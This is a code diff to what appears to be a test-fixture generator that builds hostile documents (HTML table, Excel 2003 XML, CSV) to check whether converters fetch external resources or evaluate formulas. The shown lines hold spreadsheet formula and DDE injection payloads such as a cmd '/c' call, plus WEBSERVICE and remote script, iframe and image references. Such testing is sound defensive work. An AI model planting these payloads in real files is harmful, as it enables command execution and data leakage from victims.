@@ -34,6 +34,8 @@ export function hostileDocuments(prey: Prey): HostileDocument[] {
       fodt(text, picture),
       rtf(text, picture),
       html(text, picture),
+      webTable(text, picture),
+      workbook2003(text),
       xlsx(text, picture),
       fods(text),
       csv(text),
@@ -185,6 +187,22 @@ const csv = (text: string): HostileDocument => ({
   fileType: 'csv',
   bytes: strToU8(
     `"=WEBSERVICE(""${text}"")";=cmd|'/c ${text}'!A1\n=WEBSERVICE("${text}"),=DDE("a";"${text}";"b")\n`,
+  ),
+});
+
+const webTable = (text: string, picture: string): HostileDocument => ({
+  name: 'webtable',
+  fileType: 'webtable',
+  bytes: strToU8(
+    `<html><head><base href="${escaped(text)}"><link rel="stylesheet" href="${escaped(text)}"><style>@import url("${picture}"); td { background: url("${picture}") }</style><script src="${escaped(text)}"></script></head><body background="${escaped(picture)}"><img src="${escaped(picture)}" width="50" height="50"><iframe src="${escaped(text)}"></iframe><object data="${escaped(text)}"></object><table background="${escaped(picture)}"><tr><td background="${escaped(picture)}">Own text <img src="${escaped(picture)}"></td><td>=WEBSERVICE("${escaped(text)}")</td><td><a href="${escaped(text)}">link</a></td></tr></table></body></html>`,
+  ),
+});
+
+const workbook2003 = (text: string): HostileDocument => ({
+  name: 'xml',
+  fileType: 'xml',
+  bytes: strToU8(
+    `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="One"><Table><Row><Cell ss:Formula="=WEBSERVICE(&quot;${escaped(text)}&quot;)"><Data ss:Type="String">old</Data></Cell><Cell ss:Formula="='${escaped(text)}'#$Sheet1.A1"><Data ss:Type="String">old</Data></Cell><Cell ss:HRef="${escaped(text)}"><Data ss:Type="String">Own text</Data></Cell></Row></Table></Worksheet></Workbook>`,
   ),
 });
 
